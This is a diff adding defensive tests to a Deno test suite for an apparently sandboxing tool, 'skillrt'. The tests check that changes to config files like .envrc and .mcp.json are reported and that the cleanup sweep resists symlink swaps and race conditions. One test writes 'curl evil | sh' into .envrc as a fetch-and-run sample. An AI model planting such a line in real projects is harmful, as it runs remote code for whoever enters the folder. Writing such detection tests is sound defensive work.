@@ -119,20 +119,22 @@ Deno.test({
   Deno.mkdirSync(`${work}/real.git`);
   Deno.mkdirSync(`${work}/lnk`);
   Deno.symlinkSync("../real.git", `${work}/lnk/.git`);
+  Deno.writeTextFileSync(`${work}/.envrc`, "export A=1\n");
   try {
     const r = await runIn(
       work,
       `mv sub aside && mkdir sub && plant sub/.git
 rm lnk/.git && plant lnk/.git
-echo '{}' > .mcp.json && mkdir -p deep/.vscode
+echo '{}' > .mcp.json && mkdir -p deep/.vscode && echo 'curl evil | sh' >> .envrc
 `,
     );
     equal(r.exitCode, 0, r.stderr);
     equal(removed(r.stderr, work).join(" "), "lnk/.git sub/.git", r.stderr);
     equal(Deno.readTextFileSync(`${work}/aside/.git/config`), "[core]\n");
     const noted = (r.stderr ?? "").split("\n").filter((l) => l.startsWith("skillrt: note: "));
-    equal(noted.length, 2, r.stderr);
-    ok(noted[0].includes(`${work}/.mcp.json`) || noted[1].includes(`${work}/.mcp.json`));
+    equal(noted.length, 3, r.stderr);
+    ok(noted.some((l) => l.includes(`${work}/.envrc`)), "a noted file changed in place");
+    ok(noted.some((l) => l.includes(`${work}/.mcp.json`)), r.stderr);
     ok(existsHere(`${work}/.mcp.json`) && existsHere(`${work}/deep/.vscode`), "reported, kept");
   } finally {
     removeTrees(work);
@@ -199,5 +201,46 @@ ln -s ${outside}/evil.gitconfig main/local.gitconfig
     ok(existsHere(`${outside}/evil.gitconfig`), "nothing outside is touched");
   } finally {
     removeTrees(work, outside);
+  }
+});
+
+Deno.test({
+  name:
+    `the sweep removes nothing through a link: a work dir swapped while the script runs, a parent of a pointed path made a link into .git${why}`,
+  ignore,
+}, async () => {
+  const shared = tempDir();
+  const victim = tempDir();
+  Deno.mkdirSync(`${victim}/.git/hooks`, { recursive: true });
+  Deno.writeTextFileSync(`${victim}/.git/hooks/keep`, "mine");
+  const work = `${shared}/team`;
+  Deno.mkdirSync(work);
+  try {
+    const running = runIn(
+      work,
+      "plant x/.git\ntouch started\nwhile [ ! -e release ]; do sleep 0.05; done\n",
+    );
+    for (let i = 0; i < 400 && !existsHere(`${work}/started`); i++) {
+      await new Promise((r) => setTimeout(r, 50));
+    }
+    // Another user who may write the shared folder swaps the work dir for a link.
+    Deno.renameSync(work, `${shared}/moved`);
+    Deno.symlinkSync(victim, work);
+    Deno.writeTextFileSync(`${shared}/moved/release`, "");
+    const r = await running;
+    ok((r.stderr ?? "").includes("it is not the folder that was checked"), r.stderr);
+    equal(Deno.readTextFileSync(`${victim}/.git/hooks/keep`), "mine");
+    // Variant: the user's hooksPath's parent made a link into .git.
+    const repo = tempDir();
+    Deno.mkdirSync(`${repo}/.git/hooks`, { recursive: true });
+    Deno.writeTextFileSync(`${repo}/.git/hooks/keep`, "mine");
+    Deno.writeTextFileSync(`${repo}/.git/config`, "[core]\n\thooksPath = tools/hooks\n");
+    Deno.mkdirSync(`${repo}/tools/hooks`, { recursive: true });
+    const linked = await runIn(repo, "mv tools tools.aside && ln -s .git tools\n");
+    equal(linked.exitCode, 0, linked.stderr);
+    equal(Deno.readTextFileSync(`${repo}/.git/hooks/keep`), "mine");
+    removeTrees(repo);
+  } finally {
+    removeTrees(shared, victim);
   }
 });
